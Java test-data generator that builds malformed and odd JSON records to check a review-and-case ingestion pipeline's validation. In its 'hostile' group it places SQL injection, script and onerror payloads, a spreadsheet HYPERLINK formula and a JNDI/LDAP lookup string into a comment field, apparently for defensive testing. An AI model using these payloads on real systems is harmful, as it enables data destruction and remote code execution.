package haochaping.simulate;

import com.fasterxml.jackson.core.JsonProcessingException;
import com.fasterxml.jackson.databind.ObjectMapper;
import com.fasterxml.jackson.databind.node.ObjectNode;
import java.io.IOException;
import java.io.UncheckedIOException;
import java.nio.charset.StandardCharsets;
import java.util.ArrayDeque;
import java.util.ArrayList;
import java.util.Arrays;
import java.util.Deque;
import java.util.LinkedHashMap;
import java.util.List;
import java.util.Map;
import java.util.function.Consumer;
import java.util.function.UnaryOperator;

/**
 * The catalogue of faulty and odd records. Each is an ordinary record with one thing changed, so
 * that what a reader does with it has one cause.
 */
final class Irregularities {
  /**
   * @param name what is odd about it
   * @param code the rejection that must follow, or null where the record is to be accepted
   * @param stream where it is sent
   * @param source the header it is sent with, or null for none
   */
  record Irregularity(
      String name, String code, Topic stream, String source, UnaryOperator<byte[]> change) {}

  private static final ObjectMapper JSON = new ObjectMapper();
  private static final int LONGEST = 65_536;
  private static final String ESCAPES = "@escapes@";

  private final Map<String, List<Irregularity>> groups = new LinkedHashMap<>();

  private Irregularities() {}

  /** All of them, the groups taking turns, so that a short prefix has something of everything. */
  static List<Irregularity> catalogue() {
    Irregularities all = new Irregularities();
    all.malformed();
    all.missing();
    all.identities();
    all.levels();
    all.times();
    all.codes();
    all.flagged();
    all.accepted();
    List<Deque<Irregularity>> queues = new ArrayList<>();
    all.groups.values().forEach(group -> queues.add(new ArrayDeque<>(group)));
    List<Irregularity> order = new ArrayList<>();
    while (queues.stream().anyMatch(queue -> !queue.isEmpty())) {
      for (Deque<Irregularity> queue : queues) {
        if (!queue.isEmpty()) {
          order.add(queue.removeFirst());
        }
      }
    }
    return List.copyOf(order);
  }

  private void malformed() {
    Topic[] streams = Topic.values();
    int next = 0;
    Map<String, UnaryOperator<byte[]>> changes = new LinkedHashMap<>();
    changes.put("trailing text", record -> join(record, utf8("x")));
    changes.put("not UTF-8", record -> replaced(record, "zz-zwfw", new byte[] {(byte) 0xFF, 'z'}));
    changes.put("over 64 KiB", record -> padded(record, LONGEST + 1));
    changes.put("truncated", record -> Arrays.copyOf(record, record.length / 2));
    changes.put("empty value", record -> new byte[0]);
    changes.put("byte-order mark", record -> join(utf8("\uFEFF"), record));
    changes.put("NaN", record -> extended(record, "\"extra\":NaN"));
    changes.put("17 levels", record -> extended(record, "\"extra\":" + nested(16)));
    changes.put("two objects", record -> join(record, record));
    changes.put("an array", record -> join(utf8("["), record, utf8("]")));
    changes.put("null", record -> utf8("null"));
    changes.put("a string", record -> utf8("\"受理\""));
    changes.put("single quotes", record -> utf8("{'dataSource':'zz-zwfw'}"));
    changes.put("bare names", record -> utf8("{dataSource:\"zz-zwfw\"}"));
    changes.put("a comment", record -> extended(record, "/* x */\"extra\":1"));
    changes.put("trailing comma", record -> extended(record, "\"extra\":[1,]"));
    changes.put("raw control character", record -> extended(record, "\"extra\":\"a\tb\""));
    changes.put("overlong UTF-8", record -> odd(record, 0xC0, 0xAF));
    changes.put("surrogate in UTF-8", record -> odd(record, 0xED, 0xA0, 0x80));
    changes.put("blanks only", record -> utf8("   "));
    changes.put("line feed inside", record -> extended(record, "\n\"extra\":{"));
    for (Map.Entry<String, UnaryOperator<byte[]>> change : changes.entrySet()) {
      add("MALFORMED", streams[next++ % 4], change.getKey(), change.getValue());
    }
    for (Topic stream : streams) {
      put(
          "UNKNOWN_SOURCE",
          new Irregularity("header", "UNKNOWN_SOURCE", stream, "nowhere", record -> record));
    }
  }

  private void missing() {
    Map<Topic, List<String>> required = new LinkedHashMap<>();
    required.put(
        Topic.CASES,
        List.of(
            "dataSource",
            "projectNo",
            "serviceNumber",
            "areaCode",
            "deptCode",
            "taskCode",
            "serviceTime"));
    required.put(
        Topic.REVIEWS,
        List.of("dataSource", "projectNo", "assessNumber", "satisfaction", "assessTime"));
    required.put(
        Topic.RECTIFICATIONS, List.of("dataSource", "projectNo", "assessNumber", "updateTime"));
    required.put(
        Topic.VERDICTS,
        List.of(
            "dataSource", "projectNo", "assessNumber", "verdict", "reason", "by", "updateTime"));
    for (int way = 0; way < 3; way++) {
      for (Map.Entry<Topic, List<String>> entry : required.entrySet()) {
        int shift = way;
        for (String field : entry.getValue()) {
          // Absent, null and empty in turn, so that the first third already has all three.
          shift = (shift + 1) % 3;
          switch (shift) {
            case 0 -> tree("MISSING_FIELD", entry.getKey(), "no " + field, r -> r.remove(field));
            case 1 -> tree("MISSING_FIELD", entry.getKey(), "null " + field, r -> r.putNull(field));
            default ->
                tree("MISSING_FIELD", entry.getKey(), "empty " + field, r -> r.put(field, ""));
          }
        }
      }
    }
  }

  private void identities() {
    String long65 = "7".repeat(65);
    tree("INVALID_ID", Topic.CASES, "projectNo of 65", r -> r.put("projectNo", long65));
    tree("INVALID_ID", Topic.REVIEWS, "assessNumber of 65", r -> r.put("assessNumber", long65));
    tree("INVALID_ID", Topic.CASES, "serviceNumber with NUL", r -> r.put("serviceNumber", "1\0"));
    tree(
        "INVALID_ID", Topic.RECTIFICATIONS, "projectNo with DEL", r -> r.put("projectNo", "3\177"));
    tree("INVALID_ID", Topic.VERDICTS, "assessNumber, C1", r -> r.put("assessNumber", "1\u0085"));
    tree("INVALID_ID", Topic.REVIEWS, "projectNo with LF", r -> r.put("projectNo", "37\n04"));
    tree("INVALID_ID", Topic.CASES, "serviceNumber of 65", r -> r.put("serviceNumber", long65));
    tree("INVALID_ID", Topic.VERDICTS, "projectNo of 65", r -> r.put("projectNo", long65));
  }

  private void levels() {
    tree("INVALID_LEVEL", Topic.REVIEWS, "0", r -> r.put("satisfaction", 0));
    tree("INVALID_LEVEL", Topic.REVIEWS, "6", r -> r.put("satisfaction", 6));
    tree("INVALID_LEVEL", Topic.REVIEWS, "a word", r -> r.put("satisfaction", "非常满意"));
    tree("INVALID_LEVEL", Topic.REVIEWS, "4.5", r -> r.put("satisfaction", 4.5));
    tree("INVALID_LEVEL", Topic.REVIEWS, "4.0", r -> r.put("satisfaction", 4.0));
    tree("INVALID_LEVEL", Topic.REVIEWS, "true", r -> r.put("satisfaction", true));
    tree("INVALID_LEVEL", Topic.REVIEWS, "-1", r -> r.put("satisfaction", -1));
    tree("INVALID_LEVEL", Topic.REVIEWS, "text -1", r -> r.put("satisfaction", "-1"));
    tree("INVALID_LEVEL", Topic.REVIEWS, "an object", r -> r.putObject("satisfaction"));
    tree("INVALID_LEVEL", Topic.REVIEWS, "huge", r -> r.put("satisfaction", 4_294_967_301L));
    tree("INVALID_LEVEL", Topic.REVIEWS, "wide digit", r -> r.put("satisfaction", "５"));
  }

  private void times() {
    Map<Topic, String> required =
        Map.of(
            Topic.CASES, "serviceTime",
            Topic.REVIEWS, "assessTime",
            Topic.RECTIFICATIONS, "updateTime",
            Topic.VERDICTS, "updateTime");
    Map<String, String> faults = new LinkedHashMap<>();
    faults.put("30 February", "2026-02-30 10:00:00");
    faults.put("1999", "1999-12-31 23:59:59");
    faults.put("garbage", "昨天下午");
    faults.put("hour 25", "2026-03-02 25:00:00");
    faults.put("second 60", "2026-03-02 10:00:60");
    faults.put("hour 24", "2026-03-02 24:00:00");
    faults.put("ISO", "2026-03-02T10:00:00");
    faults.put("date alone", "2026-03-02");
    faults.put("short", "2026-3-2 9:00:00");
    faults.put("29 February 2025", "2025-02-29 10:00:00");
    for (Map.Entry<String, String> fault : faults.entrySet()) {
      for (Topic stream : Topic.values()) {
        String field = required.get(stream);
        tree("INVALID_TIME", stream, fault.getKey(), r -> r.put(field, fault.getValue()));
      }
    }
    for (Topic stream : Topic.values()) {
      String field = required.get(stream);
      tree("INVALID_TIME", stream, "a number", r -> r.put(field, 1_772_413_200));
      tree("FUTURE_TIME", stream, "2099", r -> r.put(field, "2099-01-01 00:00:00"));
    }
  }

  private void codes() {
    code(Topic.REVIEWS, "pf", 8);
    code(Topic.CASES, "proChannel", 3);
    code(Topic.RECTIFICATIONS, "rectifyStatus", 4);
    tree("INVALID_CODE", Topic.VERDICTS, "verdict", r -> r.put("verdict", "rejected"));
    code(Topic.CASES, "promiseTime", 0);
    code(Topic.CASES, "promiseType", 4);
    code(Topic.CASES, "proStatus", 9);
    code(Topic.REVIEWS, "isdefault", 2);
    code(Topic.REVIEWS, "effective", -1);
    code(Topic.REVIEWS, "reviewRound", 3);
    for (String field :
        List.of(
            "callbackResult",
            "isTrue",
            "isReasonable",
            "isMistaken",
            "isMalicious",
            "maliciousConfirmed")) {
      code(Topic.RECTIFICATIONS, field, 2);
    }
    code(Topic.RECTIFICATIONS, "reviewRound", 0);
    tree("INVALID_CODE", Topic.RECTIFICATIONS, "level", r -> r.put("handlingLevel", "Simple"));
    code(Topic.VERDICTS, "reviewRound", 12);
    tree("INVALID_CODE", Topic.REVIEWS, "pf word", r -> r.put("pf", "mobile"));
    tree("INVALID_CODE", Topic.REVIEWS, "effective true", r -> r.put("effective", true));
    tree("INVALID_CODE", Topic.CASES, "proStatus 2.0", r -> r.put("proStatus", 2.0));
  }

  private void code(Topic stream, String field, int value) {
    tree("INVALID_CODE", stream, field, r -> r.put(field, value));
  }

  private void flagged() {
    odd("flag", Topic.REVIEWS, "BAD_USCC", r -> r.put("deptCode", "11370402HCP000000A"));
    odd("flag", Topic.REVIEWS, "TAG_LEVEL_MISMATCH", r -> r.put("evalDetail", tagOfOther(r)));
    odd("flag", Topic.REVIEWS, "UNKNOWN_TAG", r -> r.put("evalDetail", unknownTag(r)));
    odd("flag", Topic.REVIEWS, "UNKNOWN_CODE", r -> r.put("userProp", 8));
    odd(
        "flag",
        Topic.REVIEWS,
        "BAD_OPTIONAL_TIME",
        // A review of its own: without a time it would yield to any other.
        r -> r.put("updateTime", "2026-02-30 00:00:00").put("assessNumber", "8"));
    odd("flag", Topic.REVIEWS, "REVIEW_BEFORE_SERVICE", r -> r.put("assessTime", dayBefore(r)));
    odd(
        "flag",
        Topic.REVIEWS,
        "NO_TAG_NO_TEXT",
        r -> r.put("satisfaction", 1).put("evalDetail", "").putNull("writingEvaluation"));
    odd("flag", Topic.REVIEWS, "SELF_BUILT_ITEM", r -> r.put("taskCode", "1137040000000000X"));
    odd("flag", Topic.REVIEWS, "PLACEHOLDER_IDENTITY", r -> r.put("certKey", "0"));
    odd("flag", Topic.REVIEWS, "placeholder ones", r -> r.put("certKey", "111111111111111111"));
    odd("flag", Topic.REVIEWS, "bad check digit", r -> r.put("certKey", "370499199001011230"));
    odd("flag", Topic.REVIEWS, "nobody", r -> r.put("userName", "无"));
    odd("flag", Topic.CASES, "case BAD_USCC", r -> r.put("deptCode", "11370402HCP000000A"));
    odd("flag", Topic.CASES, "case BAD_OPTIONAL_TIME", r -> r.put("acceptDate", "刚才"));
    odd("flag", Topic.CASES, "unknown taskType", r -> r.put("taskType", "77"));
    odd("flag", Topic.CASES, "case SELF_BUILT_ITEM", r -> r.put("taskCode", "1137040000000000Y"));
    odd("flag", Topic.RECTIFICATIONS, "callbackTime", r -> r.put("callbackTime", "次日"));
    odd("flag", Topic.CASES, "unreadable updateTime", r -> r.put("updateTime", "2026/03/02"));
  }

  private void accepted() {
    for (Topic stream : Topic.values()) {
      odd("same", stream, "numbers as strings", Irregularities::numbersAsStrings);
      odd(
          "same",
          stream,
          "unknown fields",
          r -> r.put("extraField", 1).putObject("扩展").put("a", 1));
      odd("same", stream, "nulls left out", Irregularities::nullsLeftOut);
    }
    add("size", null, Topic.REVIEWS, "exactly 64 KiB", record -> padded(record, LONGEST));
    add("size", null, Topic.CASES, "16 levels", r -> extended(r, "\"extra\":" + nested(15)));
    add("size", null, Topic.VERDICTS, "blanks around", r -> join(utf8(" \t"), r, utf8(" \r")));
    odd("odd", Topic.REVIEWS, "leading zero", r -> r.put("satisfaction", "04"));
    odd("odd", Topic.REVIEWS, "no channel", r -> r.remove("pf"));
    odd("odd", Topic.REVIEWS, "default by isdefault", r -> r.put("isdefault", 1));
    odd("odd", Topic.REVIEWS, "default by pf", r -> r.put("pf", 7).put("isdefault", 0));
    odd("odd", Topic.REVIEWS, "staff apart", r -> r.put("winuserno", " SZ0001 ,SZ0002,SZ0001"));
    odd("odd", Topic.REVIEWS, "no staff", r -> r.putArray("winuserno"));
    odd(
        "odd",
        Topic.REVIEWS,
        "staff list",
        r -> r.putArray("winuserno").add("SZ0003").add(" SZ0003 "));
    odd("odd", Topic.REVIEWS, "no updateTime", r -> r.remove("updateTime"));
    odd("odd", Topic.REVIEWS, "own department", r -> r.put("deptCode", "11370402HCP015184W"));
    odd(
        "odd",
        Topic.REVIEWS,
        "text is an object",
        r -> r.putObject("writingEvaluation").put("a", 1));
    odd("odd", Topic.REVIEWS, "stage of its own", r -> r.put("assessNumber", "7".repeat(64)));
    odd("odd", Topic.CASES, "unknown area", r -> r.put("areaCode", "379999000000"));
    odd("odd", Topic.CASES, "unknown task", r -> r.put("taskCode", "Z".repeat(31)));
    odd("odd", Topic.CASES, "no updateTime", r -> r.remove("updateTime"));
    odd("odd", Topic.CASES, "to be accepted", r -> r.put("proStatus", "1"));
    odd("odd", Topic.RECTIFICATIONS, "mistaken", r -> r.put("isMistaken", 1));
    odd("odd", Topic.RECTIFICATIONS, "claimed malicious", r -> r.put("isMalicious", "1"));
    odd("odd", Topic.RECTIFICATIONS, "no flags at all", r -> r.remove("rectifyStatus"));
    odd("odd", Topic.VERDICTS, "adopted", r -> r.put("verdict", "adopted"));
    text("SQL", "'; DROP TABLE reviews; --");
    text("HTML", "<script>alert(1)</script><img src=x onerror=alert(1)>");
    text("CSV formula", "=HYPERLINK(\"http://example.invalid\",\"点我\")");
    text("right to left", "\u202E不满意\u202C \u200F\u2066评\u2069");
    text("control characters", "a\0b\u0007c\u001Bd\u0085e\u007Ff\nline\ttab");
    text("emoji", "👍🏽👨‍👩‍👧 很好 𠮷");
    text("a million wide", "好".repeat(8000));
    text("backslashes", "C:\\temp\\ %s ${jndi:ldap://example.invalid} {{7*7}}");
    add(
        "hostile",
        null,
        Topic.REVIEWS,
        "lone surrogates",
        record -> {
          ObjectNode tree = parsed(record);
          tree.put("writingEvaluation", "差" + ESCAPES + "评");
          return replaced(written(tree), ESCAPES, utf8("\\ud800 \\udc00\\ud83d"));
        });
  }

  private void text(String name, String text) {
    odd("hostile", Topic.REVIEWS, name, r -> r.put("writingEvaluation", text));
  }

  private static void numbersAsStrings(ObjectNode record) {
    List<String> names = new ArrayList<>();
    record.fieldNames().forEachRemaining(names::add);
    names.stream()
        .filter(name -> record.get(name).isIntegralNumber())
        .forEach(name -> record.put(name, record.get(name).asText()));
  }

  private static void nullsLeftOut(ObjectNode record) {
    List<String> names = new ArrayList<>();
    record.fieldNames().forEachRemaining(names::add);
    names.stream()
        .filter(name -> record.get(name).isNull() || record.get(name).asText("x").isEmpty())
        .forEach(record::remove);
  }

  private static String tagOfOther(ObjectNode record) {
    return record.get("satisfaction").asInt() == 5 ? "213" : "510";
  }

  private static String unknownTag(ObjectNode record) {
    return record.get("satisfaction").asInt() + "99";
  }

  private static String dayBefore(ObjectNode record) {
    String time = record.get("assessTime").asText();
    return java.time.LocalDate.parse(time.substring(0, 10)).minusDays(9) + time.substring(10);
  }

  private void odd(String group, Topic stream, String name, Consumer<ObjectNode> change) {
    put(group, new Irregularity(name, null, stream, null, onTree(change)));
  }

  private void tree(String code, Topic stream, String name, Consumer<ObjectNode> change) {
    put(code, new Irregularity(name, code, stream, null, onTree(change)));
  }

  private void add(String code, Topic stream, String name, UnaryOperator<byte[]> change) {
    put(code, new Irregularity(name, code, stream, null, change));
  }

  private void add(
      String group, String code, Topic stream, String name, UnaryOperator<byte[]> change) {
    put(group, new Irregularity(name, code, stream, null, change));
  }

  private void put(String group, Irregularity irregularity) {
    groups.computeIfAbsent(group, key -> new ArrayList<>()).add(irregularity);
  }

  private static UnaryOperator<byte[]> onTree(Consumer<ObjectNode> change) {
    return record -> {
      ObjectNode tree = parsed(record);
      change.accept(tree);
      return written(tree);
    };
  }

  private static ObjectNode parsed(byte[] record) {
    try {
      return (ObjectNode) JSON.readTree(record);
    } catch (IOException e) {
      throw new UncheckedIOException(e);
    }
  }

  private static byte[] written(ObjectNode tree) {
    try {
      return JSON.writeValueAsBytes(tree);
    } catch (JsonProcessingException e) {
      throw new UncheckedIOException(e);
    }
  }

  /** The record with this member before its closing brace. */
  private static byte[] extended(byte[] record, String member) {
    return join(Arrays.copyOf(record, record.length - 1), utf8("," + member + "}"));
  }

  /** The record with two or three bytes in a string that are no UTF-8. */
  private static byte[] odd(byte[] record, int... bytes) {
    byte[] sequence = new byte[bytes.length];
    for (int i = 0; i < bytes.length; i++) {
      sequence[i] = (byte) bytes[i];
    }
    return replaced(record, "zz-zwfw", sequence);
  }

  /** An unknown field makes the record this long. */
  private static byte[] padded(byte[] record, int length) {
    int frame = extended(record, "\"padding\":\"\"").length;
    return extended(record, "\"padding\":\"" + "x".repeat(length - frame) + "\"");
  }

  private static String nested(int levels) {
    return "{\"a\":".repeat(levels - 1) + "{}" + "}".repeat(levels - 1);
  }

  private static byte[] replaced(byte[] record, String what, byte[] by) {
    String text = new String(record, StandardCharsets.UTF_8);
    int at = text.indexOf(what);
    return join(utf8(text.substring(0, at)), by, utf8(text.substring(at + what.length())));
  }

  private static byte[] join(byte[]... parts) {
    int length = 0;
    for (byte[] part : parts) {
      length += part.length;
    }
    byte[] whole = Arrays.copyOf(parts[0], length);
    int at = parts[0].length;
    for (int i = 1; i < parts.length; i++) {
      System.arraycopy(parts[i], 0, whole, at, parts[i].length);
      at += parts[i].length;
    }
    return whole;
  }

  private static byte[] utf8(String text) {
    return text.getBytes(StandardCharsets.UTF_8);
  }
}
